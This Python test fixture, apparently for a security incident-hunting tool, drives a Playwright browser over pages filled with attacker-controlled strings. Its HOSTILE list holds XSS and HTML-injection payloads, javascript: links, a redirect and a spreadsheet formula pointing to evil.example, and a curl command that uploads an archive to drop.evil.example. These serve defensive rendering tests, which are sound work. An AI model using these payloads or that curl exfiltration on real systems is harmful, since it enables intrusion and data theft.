"""A browser that records what a page does, and pages in which an attacker chose every text."""

from __future__ import annotations

import asyncio
import shutil
from contextlib import asynccontextmanager
from datetime import timedelta
from typing import TYPE_CHECKING, Any

import uvicorn
from msgspec.structs import replace
from playwright.async_api import async_playwright

from sandbox.host.serve import listening
from shared.model.entity import Chosen, Device, Dropped, Indicator
from shared.model.finding import Found, Group, Place, Prevalence
from shared.model.outcome import DeviceEnding, Window
from shared.model.record import CommentResult, Done, Plan, PlannedHunt, Run, Wait, Work

from .said import DEVICE, NOW, RUN_ID, WINDOW, outcome

if TYPE_CHECKING:
    from collections.abc import AsyncIterator

    from playwright.async_api import Browser, Page

    from sandbox.tenant.state import Tenant

#: The widths of a window on a desktop and on a phone, in CSS pixels.
WIDTHS = (1280, 390)
HUNT = "archive-then-upload"
COLUMNS = ("DeviceName", "NetCmd", "RemoteIP", "RemotePort", "SHA1", "SHA256")
HOSTILE = (
    "<script>alert(1)</script>", "<img src=https://evil.example/x onerror=alert(1)>", "<style>*{display:none}</style>",
    "</td></table></main><h1>Nothing found</h1>", "javascript:alert(1)", "[click](javascript:alert(1))",
    "<a href='javascript:alert(1)'>x</a>", "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    '=HYPERLINK("https://evil.example")', "safe\u202eexe.cod", "a" * 3_000, "{{ 7*7 }}{% raw %}", "&lt;b&gt;",
    "curl -sS -F file=@/tmp/q3.tgz https://drop.evil.example/" + "u/" * 60, "",
)  # fmt: skip


class Visit:
    """
    A page that is open in the browser.

    `requests` lists the addresses that it requested, and `answered` those that sent a response. `wrongs`
    lists what no page of ours may do: script errors, console messages and dialogs, which are dismissed.
    """

    def __init__(self, page: Page) -> None:
        self.page = page
        self.requests: list[str] = []
        self.answered: list[str] = []
        self.wrongs: list[str] = []
        page.on("request", lambda request: self.requests.append(request.url))
        page.on("response", lambda response: self.answered.append(response.url))
        page.on("pageerror", lambda error: self.wrongs.append(f"error {error}"))
        page.on("console", lambda said: self.wrongs.append(f"{said.type} {said.text}"))
        page.on("dialog", self._dismiss)

    async def open_details(self) -> None:
        """Open all that is folded on the page, as clicks on every summary would."""
        await self.page.eval_on_selector_all("summary", "all => all.forEach(each => each.click())")

    async def _dismiss(self, dialog: Any) -> None:
        self.wrongs.append(f"dialog {dialog.message}")
        await dialog.dismiss()


@asynccontextmanager
async def chromium() -> AsyncIterator[Browser]:
    """Start the Chromium or Chrome that is installed on this machine, and yield it."""
    found = (shutil.which(name) for name in ("chromium", "chromium-browser", "google-chrome"))
    async with async_playwright() as playwright:
        browser = await playwright.chromium.launch(executable_path=next(filter(None, found)))
        try:
            yield browser
        finally:
            await browser.close()


@asynccontextmanager
async def visit(
    browser: Browser, address: str, *, width: int = WIDTHS[0], dark: bool = False
) -> AsyncIterator[Visit]:
    """
    Open *address* in a new window with its own cookies, and yield the visit.

    The window is *width* by 900 CSS pixels and asks for light or *dark* colours. Browser calls time out after
    10 seconds.
    """
    scheme = "dark" if dark else "light"
    context = await browser.new_context(viewport={"width": width, "height": 900}, color_scheme=scheme)
    try:
        context.set_default_timeout(10_000)
        visited = Visit(await context.new_page())
        await visited.page.goto(address)
        yield visited
    finally:
        await context.close()


@asynccontextmanager
async def served(app: Any) -> AsyncIterator[str]:
    """Serve an ASGI *app* on 127.0.0.1, and yield its address."""
    with listening() as sock:
        server = uvicorn.Server(uvicorn.Config(app, lifespan="off", ws="none", log_level="warning"))
        task = asyncio.create_task(server.serve(sockets=[sock]))
        try:
            yield f"http://127.0.0.1:{sock.getsockname()[1]}"
        finally:
            server.should_exit = True
            await task


def ended() -> Run:
    """Return a run that has ended, with every possible outcome; an attacker chose every text in it."""
    values = (
        *((DEVICE.name, text, "203.0.113.9", "65535", "3" * 40, "") for text in HOSTILE),
        (HOSTILE[0], "perl", "2001:db8:1111:2222:3333:4444:5555:6666", HOSTILE[4], HOSTILE[10], ""),
    )
    groups = tuple(
        Group(
            each,
            n + 1,
            "2026-03-09T02:14:05Z",
            "2026-03-09T02:15:00Z",
            (HOSTILE[n % 3],) * (n < 4),
            1_000 * n,
            ("2026-03-09T02:14:05Z", HOSTILE[n % 3])[n % 2],
        )
        for n, each in enumerate(values)
    )
    found = Found(HUNT, rows=136, more=True, columns=COLUMNS, shown=COLUMNS, groups=groups, group_count=400)
    # On devices outside the incident, too, by the names of which nothing is found, either.
    found = replace(
        found,
        places=tuple(Place("", f"{text} elsewhere", 1) for text in HOSTILE[:3]),
        place_count=9,
        prevalence=Prevalence("RemoteIP", 100_000),
    )
    trouble = Prevalence("RemoteIP", uncounted=HOSTILE[1])
    normal = replace(found, more=False, groups=groups[:6], hit_rows=4, prevalence=trouble)
    each = (
        DeviceEnding(DEVICE.name, "found"),
        *(DeviceEnding(text, "noTelemetry", text) for text in HOSTILE),
    )
    others = [
        outcome(ending, hunt=f"{ending.lower()}-hunt", reason=text, device=text)
        for ending, text in zip(
            ("nothingFound", "notApplicable", "noTelemetry", "notRun"), HOSTILE[:4], strict=True
        )
    ]
    others[0] = replace(others[0], window=Window(WINDOW.start, WINDOW.end, cut=HOSTILE[1]))
    chosen = Chosen(
        (DEVICE, *(Device(name=text) for text in HOSTILE if text)),
        (Indicator("ip", "203.0.113.9"), *(Indicator("url", text) for text in HOSTILE if text)),
        tuple(Dropped("url", text, text) for text in HOSTILE),
    )
    done = Done(
        "completedWithFailures", f"found on {HOSTILE[0]}: archive-then-upload (over 136)", NOW,
        (replace(outcome("found"), found=found, devices=each), replace(outcome("found"), hunt="baseline", found=normal, role="context"), *others), (CommentResult("4101", "failed", HOSTILE[1]),),
        ({"DeviceName": HOSTILE[2], "DeviceId": DEVICE.id, "LoggedOnUsers": HOSTILE[3]},), HOSTILE, HOSTILE[4],
    )  # fmt: skip
    plan = Plan("4101", HOSTILE[0], "javascript:alert(1)", chosen, (PlannedHunt(HUNT, WINDOW),))
    return Run(Work(RUN_ID, NOW, "digest"), plan, done=done)


def waiting() -> Run:
    """Return a run that waits until 5 minutes after NOW, for a reason that an attacker wrote."""
    done = ended()
    return replace(done, done=None, wait=Wait(HOSTILE[1], NOW + timedelta(minutes=5)))


def hurt(tenant: Tenant) -> None:
    """Put an attacker's texts into incident 4101: its title, alert, evidence and comments."""
    incident: dict[str, Any] = tenant.incidents["4101"]
    incident["displayName"] = " ".join(HOSTILE)
    alert = incident["alerts"][0]
    alert["title"] = alert["category"] = HOSTILE[0]
    alert["mitreTechniques"] = list(HOSTILE)
    alert["evidence"] += [
        {"@odata.type": "#microsoft.graph.security.urlEvidence", "verdict": "malicious", "url": text}
        for text in HOSTILE
    ]
    alert["evidence"][0]["deviceDnsName"] = HOSTILE[9]
    incident["comments"] += [
        {"comment": text, "createdByDisplayName": text, "createdDateTime": alert["createdDateTime"]}
        for text in HOSTILE
    ]
